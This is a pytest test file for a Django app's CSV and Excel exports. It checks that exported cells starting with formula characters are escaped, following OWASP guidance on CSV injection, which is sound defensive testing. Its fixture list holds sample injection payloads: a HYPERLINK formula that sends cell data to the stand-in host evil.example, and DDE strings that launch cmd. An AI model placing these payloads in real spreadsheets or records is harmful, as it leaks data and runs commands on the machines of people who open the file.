"""No export writes what someone typed as a live spreadsheet formula (OWASP's CSV-injection advice).

Each export is downloaded for real, with an organisation (and a deal, a survey answer) named like an attack;
a CSV cell that begins with a formula's first sign must begin with an apostrophe, an .xlsx cell must be a
string (never a formula) holding the name unchanged.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from meute.core.factories import OrganizationFactory, PersonFactory
from meute.core.importing.tables import read_table
from meute.lib import exports

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EVIL = ATTACKS[0]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_csv_neutral(content: bytes, expected=EVIL):
    cells = [cell for row in csv_rows(content) for cell in row]
    assert "'" + expected in cells
    dangerous = [c for c in cells if c.startswith(exports.FORMULA_STARTS) and exports.is_formula(c)]
    assert dangerous == []


def assert_xlsx_neutral(content: bytes, expected=EVIL):
    cells = xlsx_cells(content)
    assert [c.value for c in cells if c.data_type == "f"] == []
    crafted = [c for c in cells if c.value == expected]
    assert crafted and all(c.data_type == "s" and c.quotePrefix for c in crafted)


class TestTheSharedWriter:
    @pytest.mark.parametrize("value", ATTACKS)
    def test_every_formula_start_is_written_as_text(self, value):
        buffer = io.StringIO()
        exports.write_csv(buffer, ["name"], [[value]])
        assert csv_rows(buffer.getvalue().encode())[1] == ["'" + value]
        binary = io.BytesIO()
        exports.write_xlsx(binary, "t", ["name"], [[value]])
        cell = xlsx_cells(binary.getvalue())[1]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)

    def test_numbers_stay_numbers(self):
        row = [Decimal("-12.50"), -3, "-12.50", "+33", "1e-3", "Alpha", "O'Neil", datetime.date(2027, 1, 2)]
        buffer = io.StringIO()
        exports.write_csv(buffer, ["a"] * len(row), [row])
        assert csv_rows(buffer.getvalue().encode())[1] == [
            "-12.50", "-3", "-12.50", "+33", "1e-3", "Alpha", "O'Neil", "2027-01-02",
        ]  # fmt: skip
        binary = io.BytesIO()
        exports.write_xlsx(binary, "t", ["a"] * len(row), [row])
        cells = xlsx_cells(binary.getvalue())[len(row) :]
        assert cells[0].value == -12.5 and cells[0].data_type == "n"
        assert cells[1].value == -3 and cells[1].data_type == "n"
        assert [c.quotePrefix for c in cells] == [False] * len(row)

    def test_control_characters_do_not_smuggle_a_formula(self):
        binary = io.BytesIO()
        exports.write_xlsx(binary, "t", ["a"], [["\x01=1+1"]])
        cell = xlsx_cells(binary.getvalue())[1]
        assert (cell.value, cell.data_type) == ("=1+1", "s")

    def test_an_exported_csv_imports_back_to_the_same_text(self):
        buffer = io.StringIO()
        exports.write_csv(buffer, ["name", "phone"], [[value, "+33 1 23 45 67 89"] for value in ATTACKS[:4]])
        table = read_table(io.BytesIO(buffer.getvalue().encode()), "back.csv")
        assert [row[0] for _index, row in table.rows] == ATTACKS[:4]
        assert {row[1] for _index, row in table.rows} == {"+33 1 23 45 67 89"}


def test_directory_list_page(client_for, world):
    OrganizationFactory(name=EVIL, city="-Lyon")
    client = client_for(world.manager)
    assert_csv_neutral(client.get("/organizations/?export=csv").content)
    assert_xlsx_neutral(client.get("/organizations/?export=xlsx").content)


def test_api_list_files(api, world):
    OrganizationFactory(name=EVIL)
    client = api(world.manager)
    assert_csv_neutral(client.get("/api/organizations/", {"format": "csv"}).content)
    assert_xlsx_neutral(client.get("/api/organizations/", {"format": "xlsx"}).content)


def test_cli_exports_of_organizations_and_people(world, tmp_path):
    organization = OrganizationFactory(name=EVIL, phone="+33 1 23 45 67 89")
    PersonFactory(organization=organization, first_name="@Eve", notes="=1+1")
    for kind in ("organizations", "people"):
        call_command("export_data", kind, "--output", str(tmp_path / f"{kind}.csv"), "--quiet")
        call_command("export_data", kind, "--output", str(tmp_path / f"{kind}.xlsx"), "--quiet")
        assert_csv_neutral((tmp_path / f"{kind}.csv").read_bytes())
        assert_xlsx_neutral((tmp_path / f"{kind}.xlsx").read_bytes())
    people = (tmp_path / "people.csv").read_bytes()
    assert_csv_neutral(people, "@Eve")
    assert_csv_neutral(people, "=1+1")
    phone = [
        c
        for c in xlsx_cells((tmp_path / "organizations.xlsx").read_bytes())
        if c.value == "+33 1 23 45 67 89"
    ]
    assert phone and phone[0].data_type == "s"


def test_payout_statement_exports(pay_world, client_for, tmp_path):
    from meute.remuneration import payouts, rule_versions
    from meute.remuneration.tests.fixtures import won_deal

    w = pay_world
    w.org_c.name = EVIL
    w.org_c.save()
    rule_versions.save_version(
        w.pack,
        valid_from=datetime.date(2027, 1, 1),
        rules=[{"kind": "commission_pool", "rate": "10"}],
        user=w.admin,
    )
    title = "=cmd|' /C calc'!A0"
    won_deal(w.pack, [(o, w.member) for o in (w.org_a, w.org_c, w.org_d)], amount="700.00", title=title)
    payouts.compute_payouts("2027-Q1")
    url = reverse("groupings:payout-export")
    client = client_for(w.admin)
    csv_content = client.get(url, {"period": "2027-Q1", "format": "csv"}).content
    assert_csv_neutral(csv_content)
    assert any(cell.startswith("'" + title) for row in csv_rows(csv_content) for cell in row)
    xlsx = client.get(url, {"period": "2027-Q1", "format": "xlsx"}).content
    assert_xlsx_neutral(xlsx)
    amounts = [c for c in xlsx_cells(xlsx) if c.column == 6 and c.row > 1]
    assert amounts and all(c.data_type == "n" for c in amounts)
    call_command("payouts", "export", "--period", "2027-Q1", "--output", str(tmp_path / "p.xlsx"))
    assert_xlsx_neutral((tmp_path / "p.xlsx").read_bytes())


def test_ranking_export(world, client_for):
    from meute.core.models import Sector
    from meute.recruitment.tests.test_profiles import _ideal

    OrganizationFactory(name=EVIL, headcount=60).markets.set([Sector.objects.create(code="retail", name="R")])
    profile = _ideal()
    client = client_for(world.manager)
    for fmt, check in (("csv", assert_csv_neutral), ("xlsx", assert_xlsx_neutral)):
        response = client.get(reverse("recruitment:scoring-export", args=[profile.uuid, fmt]))
        assert response.status_code == 200
        check(response.content)


def test_survey_answers_export(client_for, world):
    from meute.insights import surveys
    from meute.insights.models import SurveyAnswer, SurveyInvitation

    survey = surveys.create_survey(
        title="Spring", opens_on=datetime.date(2026, 3, 1), closes_on=datetime.date(2099, 3, 31)
    )
    invitation = SurveyInvitation.objects.create(
        survey=survey, partnership=world.partnership_a, person=world.person_a, token_sha256="0" * 64
    )
    SurveyAnswer.objects.create(invitation=invitation, question=survey.questions.first(), text=EVIL)
    response = client_for(world.manager).get(reverse("insights:survey-export", kwargs={"uuid": survey.uuid}))
    assert response.status_code == 200
    assert_csv_neutral(response.content)
